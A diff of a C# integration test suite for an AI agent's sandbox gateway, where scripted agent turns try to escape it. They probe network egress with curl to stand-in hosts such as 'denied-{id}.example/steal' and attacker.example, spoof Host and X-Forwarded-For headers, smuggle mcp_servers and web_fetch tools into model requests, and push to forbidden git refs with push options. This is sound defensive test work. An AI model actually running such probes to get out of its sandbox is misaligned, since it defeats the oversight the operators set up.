@@ -35,6 +35,9 @@ public sealed class GatewayAttackTests(DockerFixture fixture)
             ScriptedTurn.Bash("ls /sys/class/net; getent hosts attacker.example; echo resolve=$?; curl -s -m 3 --noproxy '*' 'http://[2001:db8::1]/' ; echo ipv6=$?; curl -s -m 3 --noproxy '*' http://10.0.0.1/; echo direct=$?"),
             ScriptedTurn.Bash($"curl -s -m 5 http://denied-{id}.example/steal; echo; echo http=$?; curl -s -m 5 https://denied-{id}.example/; echo connect=$?"),
             ScriptedTurn.Bash("curl -s -m 5 -X POST -H 'content-type: application/json' -d '{}' http://127.0.0.1:7411/v1/files; echo; curl -s -m 5 http://127.0.0.1:7411/v1/models; echo; curl -s -m 5 http://127.0.0.1:7411/; echo; echo files-done"),
+            ScriptedTurn.Bash("m=http://127.0.0.1:7411/v1/messages; curl -s -m 5 -o /dev/null -H 'Host: evil.example' -H 'X-Forwarded-For: 203.0.113.9' -H 'content-type: application/json' -d '{\"model\":\"m\",\"max_tokens\":5,\"messages\":[{\"role\":\"user\",\"content\":\"host-probe\"}]}' $m; " +
+                "curl -s -m 5 -H 'content-type: application/json' -d '{\"model\":\"m\",\"max_tokens\":5,\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://x.example/\"}],\"messages\":[]}' $m; echo; " +
+                "curl -s -m 5 -H 'content-type: application/json' -d '{\"model\":\"m\",\"max_tokens\":5,\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}],\"messages\":[]}' $m; echo; echo server-tools-done"),
             ScriptedTurn.Text("Nothing useful here."));
 
         var (task, outcome) = await fixture.RunToEndAsync("dev", repo, $"issue-{id}", $"hunt-{id}: look around.", cts.Token);
@@ -79,6 +82,15 @@ public sealed class GatewayAttackTests(DockerFixture fixture)
         Assert.DoesNotContain(modelRequests, r => r.Headers.Values.Any(v => v.Contains(ModelCredential.Placeholder, StringComparison.Ordinal)));
         Assert.DoesNotContain(modelRequests, r => r.Path.StartsWith("/v1/files", StringComparison.Ordinal));
 
+        // The sandbox names neither the upstream's host (also its TLS name) nor where the request came from, and
+        // cannot make the model's servers reach out for it.
+        var probe = Assert.Single(modelRequests, r => !r.IsConversation && r.Body.Contains("\"content\":\"host-probe\"", StringComparison.Ordinal));
+        Assert.Equal(fixture.Config.Model.BaseUrl!.Authority, probe.Header("host"));
+        Assert.Null(probe.Header("x-forwarded-for"));
+        Assert.Contains("mcp_servers would let the model's servers connect anywhere", seen, StringComparison.Ordinal);
+        Assert.Contains("the server-side tool web_fetch_20250910 would reach out", seen, StringComparison.Ordinal);
+        Assert.DoesNotContain(modelRequests, r => !r.IsConversation && (r.Body.Contains("mcp_servers", StringComparison.Ordinal) || r.Body.Contains("web_fetch_2025", StringComparison.Ordinal)));
+
         // Every attempt is in the egress log with its task, and each denial is also an event of the task.
         Assert.Contains(egress, r => r is { Route: EgressRecord.HttpRoute, Decision: EgressRecord.Denied } && r.Host.StartsWith($"denied-{id}.example", StringComparison.Ordinal));
         Assert.Contains(egress, r => r is { Route: EgressRecord.ConnectRoute, Decision: EgressRecord.Denied } && r.Host == $"denied-{id}.example:443");
@@ -107,7 +119,7 @@ public sealed class GatewayAttackTests(DockerFixture fixture)
             ScriptedTurn.Bash($"echo a >> README.md && git commit -qam own && git fetch -q origin && git push origin HEAD:dev/{thread} 2>&1; echo own=$?"),
             ScriptedTurn.Bash("git push origin HEAD:main 2>&1; echo main=$?; git push origin HEAD:refs/tags/v9.9.9 2>&1; echo tag=$?; git push origin HEAD:reviewer/pr-1 2>&1; echo other=$?"),
             ScriptedTurn.Bash($"git push origin --force HEAD~1:dev/{thread} 2>&1; echo force=$?; git push origin HEAD:dev/{thread} 2>&1; git push origin :dev/{thread} 2>&1; echo delete=$?"),
-            ScriptedTurn.Bash($"git ls-remote http://127.0.0.1:7411/git/it-owner/other-{id}.git 2>&1; echo fetch-other=$?; git ls-remote origin 2>&1 | grep -c refs/heads; echo done"),
+            ScriptedTurn.Bash($"git ls-remote http://127.0.0.1:7411/git/it-owner/other-{id}.git 2>&1; echo fetch-other=$?; echo o >> README.md && git commit -qam options && git push -o repo.private=false origin HEAD:dev/{thread} 2>&1; echo options=$?; echo done"),
             ScriptedTurn.Text("Pushed what I could."));
         var (_, outcome) = await fixture.RunToEndAsync("dev", repo, thread, $"push-{id}: push everywhere.", cts.Token);
         var seen = ToolResults(await fixture.Store.GetEventsAsync((await LastTaskAsync("dev", cts.Token)).Id, 0, cts.Token));
@@ -115,13 +127,14 @@ public sealed class GatewayAttackTests(DockerFixture fixture)
         Assert.True(outcome.Status == TaskState.Succeeded, outcome.Reason);
         Assert.Contains("own=0", seen, StringComparison.Ordinal);
         Assert.Contains("force=0", seen, StringComparison.Ordinal);
-        foreach (var refused in new[] { "main=1", "tag=1", "other=1", "delete=1", "fetch-other=128" })
+        foreach (var refused in new[] { "main=1", "tag=1", "other=1", "delete=1", "fetch-other=128", "options=1" })
         {
-            Assert.Contains(refused, seen, StringComparison.Ordinal);
+            Assert.True(seen.Contains(refused, StringComparison.Ordinal), $"no {refused} in:\n{seen}");
         }
 
         Assert.Contains($"claude-hooks policy: refs/heads/main is not this task's branch; the dev role may push only refs/heads/dev/{thread} (agents.dev.role)", seen, StringComparison.Ordinal);
         Assert.Contains("claude-hooks policy: tags are never pushed", seen, StringComparison.Ordinal);
+        Assert.Contains("claude-hooks policy: push options (git push -o) are not accepted", seen, StringComparison.Ordinal);
         Assert.Contains($"claude-hooks policy: deleting refs/heads/dev/{thread} is refused", seen, StringComparison.Ordinal);
         Assert.Equal(mainBefore, await RefAsync(bare, "refs/heads/main"));
         Assert.Null(await RefAsync(bare, "refs/tags/v9.9.9"));
